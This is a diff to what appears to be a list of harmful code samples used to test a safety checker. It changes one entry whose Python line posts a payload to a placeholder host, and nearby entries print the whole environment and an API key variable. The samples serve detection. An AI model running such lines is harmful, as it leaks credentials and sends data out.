@@ -54,7 +54,7 @@ HARMFUL = [
     ("import os\nprint(os.environ)", "high", "secrets", "whole environment"),
     ("import os\nprint(os.environ['ANTHROPIC_API_KEY'])", "high", "secrets", "ANTHROPIC_API_KEY"),
     (
-        "import requests\nrequests.post('https://x.invalid', data=b'1')",
+        "import requests\nrequests.post('https://x.invalid', data=payload)",
         "high",
         "network",
         "sends data",
